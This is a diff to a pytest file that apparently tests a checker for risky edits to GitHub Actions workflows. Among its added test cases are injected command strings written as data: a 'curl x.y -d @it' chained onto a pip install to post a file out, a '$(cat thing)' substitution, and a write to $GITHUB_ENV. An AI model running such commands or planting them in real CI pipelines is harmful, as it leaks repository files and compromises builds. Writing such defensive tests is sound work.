@@ -219,6 +219,12 @@ def test_a_new_pipeline_may_build_and_test_and_publish_for_those_who_keep_it(tex
     assert asked(".github/workflows/more.yml", None, text) == set()
 
 
+@pytest.mark.parametrize(("old", "new"), [("pip tox", "pip thing"), ("tox -e py\n", "python -c 'import it'\n")])
+def test_a_new_pipeline_that_is_trusted_with_nothing_may_run_what_it_likes(old: str, new: str) -> None:
+    assert asked(".github/workflows/more.yml", None, NEW.replace(old, new)) == set()
+    assert asked(".github/workflows/more.yml", None, GIVES.replace("tox -e py\n", "./it\n")) == FOUND
+
+
 @pytest.mark.parametrize(
     ("text", "old", "new"),
     [
@@ -233,10 +239,11 @@ def test_a_new_pipeline_may_build_and_test_and_publish_for_those_who_keep_it(tex
         (NEW, "[push]\n", "[push]\npermissions:\n  contents: write\n"),
         (NEW, "${{ matrix.os }}", "self-hosted"),
         (NEW, "actions/checkout@v3", "them/checkout@v3"),
-        (NEW, "pip tox", "pip thing"),
+        (NEW, "pip tox", "pip $(cat thing)"),
+        (NEW, "pip tox", "pip tox && curl x.y -d @it"),
         (NEW, "tox -e py\n", "tox -e py || true\n"),
         (NEW, "tox -e py\n", "npm publish\n"),
-        (NEW, "tox -e py\n", "python -c 'import it'\n"),
+        (NEW, "tox -e py\n", "python -c 'import it' >> $GITHUB_ENV\n"),
         (NEW, "    strategy:", "    container: them/image\n    strategy:"),
     ],
 )
